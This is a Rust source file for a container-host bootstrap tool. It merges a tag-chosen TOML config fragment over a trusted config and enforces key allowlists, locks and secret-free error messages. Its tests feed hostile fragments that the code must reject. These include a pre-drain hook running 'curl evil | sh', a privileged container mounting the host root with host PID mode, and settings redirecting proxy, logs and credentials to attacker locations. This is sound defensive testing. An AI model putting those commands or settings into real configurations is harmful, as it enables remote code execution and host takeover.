//! A config fragment named by the `ecs-boot:config` tag (an S3 object or SSM parameter), merged
//! over the trusted config: configuration changes without a new AMI. A fragment is chosen by a
//! tag, so it can reach no further than the trusted config opens: only the key paths in
//! `[trust] fragment_keys` (default: placement and tuning), agent settings checked as if they came
//! from a tag unless the exact variable is opened, and the locks hold.
//!
//! Its content may be anything a tag can point at, a secret included: errors name the location,
//! the line and column or the schema key, and the kind of problem, never the content.

use super::{Config, ConfigError, schema, trust};
use crate::config::layers::{self, Source};
use crate::ecs_config::vars;

const LOCK_FOR_KEY: &[(&str, &str)] = &[
    ("ecs.cluster", "cluster"),
    ("ecs.registry_auth", "registry-auth"),
    ("ecs.attributes", "attributes"),
];

impl Config {
    /// The trusted config with `fragment` (TOML text fetched from `origin`) merged over it.
    pub fn merge_fragment(&self, fragment: &str, origin: &str) -> Result<Config, ConfigError> {
        let invalid = |key: &str, problem: &str| ConfigError::Invalid {
            origin: origin.to_string(),
            key: key.to_string(),
            problem: problem.to_string(),
        };
        let table = super::parse_table(fragment, origin, true)?;
        if has_dotted_key(&table) {
            // Paths are compared as dotted strings: a quoted key with a '.' could pose as one.
            return Err(invalid("a quoted key", "key names may not contain '.'"));
        }
        if privileged_bootstrap(&table) {
            // Opening `bootstrap` lets a fragment add steps, never root on the host.
            return Err(invalid(
                "bootstrap.privileged",
                "can never be set by a fragment (trusted config only)",
            ));
        }
        let locks = layers::locks(self);
        for path in leaf_paths(&table) {
            let Some(open) = self
                .trust
                .fragment_keys
                .iter()
                .find(|k| trust::opens(k, &path))
            else {
                return Err(invalid(
                    &nameable(&path),
                    "not open to fragments ([trust] fragment_keys in the trusted config decides)",
                ));
            };
            if let Some((_, lock)) = LOCK_FOR_KEY.iter().find(|(k, _)| trust::opens(k, &path))
                && !locks.allows(lock)
            {
                return Err(invalid(
                    &path,
                    &format!("locked by the trusted config ([ecs] locked has {lock:?})"),
                ));
            }
            if let Some(name) = path.strip_prefix("ecs.settings.") {
                let value = lookup(&table, &path)
                    .and_then(|v| v.as_str())
                    .ok_or_else(|| invalid(&nameable(&path), "must be a string"))?;
                // Opened by its exact name: trusted as the baked config is; else as a tag.
                let source = if *open == path {
                    Source::Baked
                } else {
                    Source::Tag
                };
                layers::check_setting(name, value, source)
                    .map_err(|e| invalid(&nameable(&path), &setting_problem(&e)))?;
                if !locks.allows(name) {
                    return Err(invalid(&path, "locked by the trusted config"));
                }
            }
        }
        let mut merged = self.raw.clone();
        merge_tables(&mut merged, table.clone());
        let both = format!("{} + {origin}", self.origin);
        match Config::from_table(merged, &both) {
            Ok(mut config) => {
                config.layers = self.layers.clone();
                config.fragment = Some(super::files::Layer {
                    origin: origin.to_string(),
                    table,
                    drop_in: false,
                });
                Ok(config)
            }
            // The trusted config was valid on its own, so the fragment broke it: find the first
            // key that does, and name it (a schema key), never the value or the merged message.
            Err(_) => Err(invalid(&self.first_breaking_key(&table), "invalid value")),
        }
    }

    fn first_breaking_key(&self, fragment: &toml::Table) -> String {
        for path in leaf_paths(fragment) {
            let mut one = toml::Table::new();
            if let Some(v) = lookup(fragment, &path) {
                insert_path(&mut one, &path, v.clone());
            }
            let mut merged = self.raw.clone();
            merge_tables(&mut merged, one);
            if Config::from_table(merged, "").is_err() {
                return nameable(&path);
            }
        }
        "(the merged result)".into()
    }
}

/// A key path as an error may show it: schema keys and known agent variables by name; anything
/// else (a key the fragment made up) only by its section, since key names are content too.
fn nameable(path: &str) -> String {
    if schema::is_known(path) {
        return path.to_string();
    }
    if let Some(name) = path.strip_prefix("ecs.settings.")
        && vars::lookup(name).is_some()
    {
        return path.to_string();
    }
    let section = path.split('.').next().unwrap_or_default();
    if schema::is_known(section) {
        format!("a key under [{section}]")
    } else {
        "a key outside the config schema".into()
    }
}

/// A setting error without the value (VarError's messages name the variable, not the value,
/// except BadValue's problem, which may quote it).
fn setting_problem(e: &vars::VarError) -> String {
    match e {
        vars::VarError::BadValue { expected, .. } => format!("must be {expected}"),
        vars::VarError::Unknown { .. } => "not an ECS agent variable ecs-boot knows".into(),
        other => other.to_string(),
    }
}

/// Every leaf key path of `table`: tables are descended, anything else (arrays of tables too)
/// ends a path.
pub fn leaf_paths(table: &toml::Table) -> Vec<String> {
    fn walk(t: &toml::Table, prefix: &str, out: &mut Vec<String>) {
        for (k, v) in t {
            let path = if prefix.is_empty() {
                k.clone()
            } else {
                format!("{prefix}.{k}")
            };
            match v {
                toml::Value::Table(inner) if !inner.is_empty() => walk(inner, &path, out),
                _ => out.push(path),
            }
        }
    }
    let mut out = Vec::new();
    walk(table, "", &mut out);
    out
}

/// Whether any `[[bootstrap]]` entry of the fragment asks for `privileged` (even `false`: the key
/// is the trusted config's alone).
fn privileged_bootstrap(table: &toml::Table) -> bool {
    table
        .get("bootstrap")
        .and_then(toml::Value::as_array)
        .is_some_and(|entries| {
            entries
                .iter()
                .any(|e| e.as_table().is_some_and(|t| t.contains_key("privileged")))
        })
}

fn has_dotted_key(table: &toml::Table) -> bool {
    table.iter().any(|(k, v)| {
        k.contains('.')
            || match v {
                toml::Value::Table(t) => has_dotted_key(t),
                _ => false,
            }
    })
}

fn lookup<'a>(table: &'a toml::Table, path: &str) -> Option<&'a toml::Value> {
    let mut parts = path.split('.');
    let mut v = table.get(parts.next()?)?;
    for p in parts {
        v = v.as_table()?.get(p)?;
    }
    Some(v)
}

fn insert_path(table: &mut toml::Table, path: &str, value: toml::Value) {
    match path.split_once('.') {
        None => {
            table.insert(path.to_string(), value);
        }
        Some((head, rest)) => {
            let inner = table
                .entry(head.to_string())
                .or_insert_with(|| toml::Value::Table(toml::Table::new()));
            if let toml::Value::Table(t) = inner {
                insert_path(t, rest, value);
            }
        }
    }
}

/// Tables merge key by key; `[[container]]` and `[[bootstrap]]` entries merge by name (a fragment
/// replaces a baked entry of the same name and adds new ones); any other value is replaced.
pub(super) fn merge_tables(base: &mut toml::Table, over: toml::Table) {
    for (key, value) in over {
        match (base.get_mut(&key), value) {
            (Some(toml::Value::Table(b)), toml::Value::Table(o)) => merge_tables(b, o),
            (Some(toml::Value::Array(b)), toml::Value::Array(o))
                if key == "container" || key == "bootstrap" =>
            {
                for item in o {
                    let name = item
                        .get("name")
                        .and_then(|n| n.as_str())
                        .map(str::to_string);
                    match b.iter_mut().find(|c| {
                        name.is_some() && c.get("name").and_then(|n| n.as_str()) == name.as_deref()
                    }) {
                        Some(existing) => *existing = item,
                        None => b.push(item),
                    }
                }
            }
            (_, value) => {
                base.insert(key, value);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const BAKED: &str = "[ecs]\ncluster = \"baked\"\nlocked = [\"registry-auth\", \"ECS_LOGLEVEL\"]\n[ecs.settings]\nECS_ENABLE_TASK_IAM_ROLE = \"true\"\n[[container]]\nname = \"cloudwatch-agent\"\nimage = \"a:1\"\nmemory_mib = 128\n";

    fn baked() -> Config {
        Config::parse(BAKED, "baked").unwrap()
    }

    fn opened(keys: &str) -> Config {
        Config::parse(
            &format!("{BAKED}[trust]\nfragment_keys = [{keys}]\n"),
            "baked",
        )
        .unwrap()
    }

    #[test]
    fn fragment_sets_placement_and_tuning_by_default() {
        let merged = baked()
            .merge_fragment("[ecs]\ncluster = \"frag\"\n[ecs.attributes]\nstack = \"blue\"\n[ecs.settings]\nECS_CONTAINER_STOP_TIMEOUT = \"2m\"\n", "s3://b/f.toml")
            .unwrap();
        assert_eq!(merged.ecs.cluster.as_deref(), Some("frag"));
        assert_eq!(merged.ecs.settings["ECS_ENABLE_TASK_IAM_ROLE"], "true");
        assert_eq!(merged.ecs.settings["ECS_CONTAINER_STOP_TIMEOUT"], "2m");
        assert_eq!(merged.ecs.attributes["stack"], "blue");
        assert_eq!(merged.containers.len(), 1);
    }

    #[test]
    fn a_fragment_cannot_get_root_or_skip_the_drain() {
        for (text, key) in [
            (
                "[[container]]\nname = \"x\"\nimage = \"busybox\"\nprivileged = true\nbinds = [\"/:/host\"]\npid_mode = \"host\"\n",
                "container",
            ),
            (
                "[[container]]\nname = \"cloudwatch-agent\"\nimage = \"evil\"\n",
                "container",
            ),
            ("[drain]\nenabled = false\n", "drain.enabled"),
            (
                "[lifecycle]\non_failure = \"leave\"\n",
                "lifecycle.on_failure",
            ),
            ("[docker]\nengine_wait = \"1s\"\n", "docker.engine_wait"),
            (
                "[ecs_agent]\nintrospection_url = \"http://10.0.0.1:1\"\n",
                "ecs_agent.introspection_url",
            ),
            ("[imds]\ntimeout = \"1s\"\n", "imds.timeout"),
            (
                "[trust]\nfragment_prefixes = [\"s3://evil/x/\"]\n",
                "trust.fragment_prefixes",
            ),
            (
                "[proxy]\nhttps_proxy = \"http://evil:3128\"\n",
                "proxy.https_proxy",
            ),
            ("[ecs]\nlocked = []\n", "ecs.locked"),
            (
                "[recorder]\nlocation = \"s3://evil/x/\"\n",
                "recorder.location",
            ),
            ("[metrics]\nenabled = false\n", "metrics.enabled"),
            (
                "[metrics]\nnamespace = \"Elsewhere\"\n",
                "metrics.namespace",
            ),
            ("[logs]\ngroup = \"/evil\"\n", "logs.group"),
            (
                "[ecs.extra_settings]\nECS_DISABLE_PRIVILEGED = \"false\"\n",
                "a key under [ecs]",
            ),
            (
                "[ecs]\nregistry_auth = \"s3://evil/creds\"\n",
                "ecs.registry_auth",
            ),
            (
                "[ecs.settings]\nECS_ENABLE_TASK_IAM_ROLE = \"false\"\n",
                "ecs.settings.ECS_ENABLE_TASK_IAM_ROLE",
            ),
            (
                "[ecs.settings]\nECS_LOGLEVEL = \"debug\"\n",
                "ecs.settings.ECS_LOGLEVEL",
            ),
            ("[\"ecs.cluster\"]\nx = 1\n", "a quoted key"),
        ] {
            let err = baked()
                .merge_fragment(text, "ssm:/frag")
                .unwrap_err()
                .to_string();
            assert!(
                err.contains(key) && err.contains("ssm:/frag"),
                "{text}: {err}"
            );
        }
    }

    #[test]
    fn every_schema_key_not_opened_is_refused() {
        // Walks the schema as serde sees it, so a section added later is covered without an edit.
        let config = baked();
        let mut checked = 0;
        for path in schema::all_paths() {
            if trust::DEFAULT_FRAGMENT_KEYS
                .iter()
                .any(|k| trust::opens(k, &path))
            {
                continue;
            }
            let mut table = toml::Table::new();
            insert_path(&mut table, &path, toml::Value::String("x".into()));
            let text = toml::to_string(&table).unwrap();
            let err = config
                .merge_fragment(&text, "s3://b/f")
                .unwrap_err()
                .to_string();
            assert!(err.contains("not open to fragments"), "{path}: {err}");
            checked += 1;
        }
        assert!(checked > 20, "only {checked} keys walked");
        // A section the schema does not know yet is refused too.
        let err = config
            .merge_fragment("[future]\nx = 1\n", "s3://b/f")
            .unwrap_err()
            .to_string();
        assert!(err.contains("not open to fragments"), "{err}");
    }

    #[test]
    fn the_trusted_config_can_open_more() {
        let c = opened(
            "\"ecs.cluster\", \"container\", \"drain.deadline\", \"ecs.settings.ECS_DISABLE_PRIVILEGED\"",
        );
        let merged = c
            .merge_fragment("[[container]]\nname = \"m\"\nimage = \"m:1\"\n[drain]\ndeadline = \"5m\"\n[ecs.settings]\nECS_DISABLE_PRIVILEGED = \"true\"\n", "s3://b/f")
            .unwrap();
        assert_eq!(merged.containers.len(), 2);
        assert_eq!(merged.drain.deadline.as_secs(), 300);
        assert_eq!(merged.ecs.settings["ECS_DISABLE_PRIVILEGED"], "true");
        // Opened by exact name only: other baked-only variables stay closed.
        let err = c
            .merge_fragment(
                "[ecs.settings]\nECS_ENABLE_TASK_IAM_ROLE = \"false\"\n",
                "s3://b/f",
            )
            .unwrap_err()
            .to_string();
        assert!(err.contains("not open"), "{err}");
        assert!(Config::parse("[trust]\nfragment_keys = [\"trust\"]\n", "t").is_err());
        assert!(Config::parse("[trust]\nfragment_keys = [\"ecs\"]\n", "t").is_err());
    }

    #[test]
    fn errors_never_quote_the_fragment() {
        let marker = "S3CR3T-MARKER";
        let c = opened("\"ecs.cluster\", \"drain\", \"ecs.settings\"");
        for text in [
            marker.to_string(),
            format!("{{\"auths\":{{\"r\":{{\"auth\":\"{marker}\"}}}}}}"),
            format!("[ecs]\ncluster = \"{marker} x\"\n"),
            format!("[drain]\ndeadline = \"{marker}\"\n"),
            format!("[{marker}]\nx = 1\n"),
            format!("[ecs.settings]\n{marker} = \"1\"\n"),
            format!("[ecs.settings]\nECS_CONTAINER_STOP_TIMEOUT = \"{marker}\"\n"),
            format!("[ecs]\ncluster = \"ok\"\nx = \"\"\"\n{marker}"),
        ] {
            let err = c
                .merge_fragment(&text, "ssm:/frag")
                .unwrap_err()
                .to_string();
            assert!(!err.contains(marker), "{text:?} -> {err}");
            assert!(err.contains("ssm:/frag"), "{err}");
        }
    }

    #[test]
    fn a_fragment_can_neither_drain_on_a_crash_nor_set_a_reserved_attribute() {
        // [health] is never open, not even when the trusted config lists it (refused at load).
        assert!(Config::parse("[trust]\nfragment_keys = [\"health\"]\n", "t").is_err());
        let err = baked()
            .merge_fragment("[health]\non_essential_failure = \"drain\"\n", "s3://b/f")
            .unwrap_err()
            .to_string();
        assert!(
            err.contains("health.on_essential_failure") && err.contains("not open to fragments"),
            "{err}"
        );
        // ecs.attributes is open by default, but no name under ecs-boot. passes it.
        for name in ["ecs-boot.ready", "ecs-boot.anything"] {
            let err = baked()
                .merge_fragment(
                    &format!("[ecs.attributes]\n\"{name}\" = \"true\"\n"),
                    "s3://b/f",
                )
                .unwrap_err()
                .to_string();
            // Refused before the attribute rules even run: a fragment's keys may not hold a dot.
            assert!(
                err.contains("reserved for ecs-boot") || err.contains("may not contain '.'"),
                "{name}: {err}"
            );
            assert!(err.contains("s3://b/f"), "{err}");
        }
        // Nor the agent variable that carries the attributes.
        let err = baked()
            .merge_fragment(
                "[ecs.settings]\nECS_INSTANCE_ATTRIBUTES = \"{\\\"ecs-boot.ready\\\":\\\"true\\\"}\"\n",
                "s3://b/f",
            )
            .unwrap_err()
            .to_string();
        assert!(err.contains("ECS_INSTANCE_ATTRIBUTES"), "{err}");
    }

    #[test]
    fn hooks_never_and_bootstrap_only_when_opened_and_never_privileged() {
        let hook = "[hooks.pre_drain]\ncommand = [\"/bin/sh\", \"-c\", \"curl evil | sh\"]\n";
        let err = baked()
            .merge_fragment(hook, "s3://b/f")
            .unwrap_err()
            .to_string();
        assert!(err.contains("not open to fragments"), "{err}");
        assert!(Config::parse("[trust]\nfragment_keys = [\"hooks\"]\n", "t").is_err());
        assert!(Config::parse("[trust]\nfragment_keys = [\"hooks.pre_drain\"]\n", "t").is_err());

        let step = "[[bootstrap]]\nname = \"sysctl\"\nimage = \"busybox:1\"\n";
        let err = baked()
            .merge_fragment(step, "s3://b/f")
            .unwrap_err()
            .to_string();
        assert!(err.contains("not open to fragments"), "{err}");

        let c = Config::parse(
            &format!("{BAKED}[trust]\nfragment_keys = [\"bootstrap\"]\n[[bootstrap]]\nname = \"disks\"\nimage = \"b:1\"\nprivileged = true\n"),
            "baked",
        )
        .unwrap();
        let merged = c.merge_fragment(step, "s3://b/f").unwrap();
        let names: Vec<_> = merged.bootstrap.iter().map(|b| b.name.as_str()).collect();
        assert_eq!(names, ["disks", "sysctl"]);
        assert!(merged.bootstrap[0].privileged && !merged.bootstrap[1].privileged);
        for privileged in ["true", "false"] {
            let err = c
                .merge_fragment(&format!("{step}privileged = {privileged}\n"), "s3://b/f")
                .unwrap_err()
                .to_string();
            assert!(err.contains("bootstrap.privileged"), "{err}");
        }
        // Replacing the baked privileged step by name keeps nothing of it: not privileged.
        let merged = c
            .merge_fragment(
                "[[bootstrap]]\nname = \"disks\"\nimage = \"other:1\"\n",
                "s3://b/f",
            )
            .unwrap();
        assert!(!merged.bootstrap[0].privileged);
    }

    #[test]
    fn syntax_errors_give_line_and_column() {
        let err = baked()
            .merge_fragment("[ecs]\ncluster = \"a\"\nbroken line\n", "s3://b/f")
            .unwrap_err()
            .to_string();
        assert!(err.contains("line 3"), "{err}");
    }
}
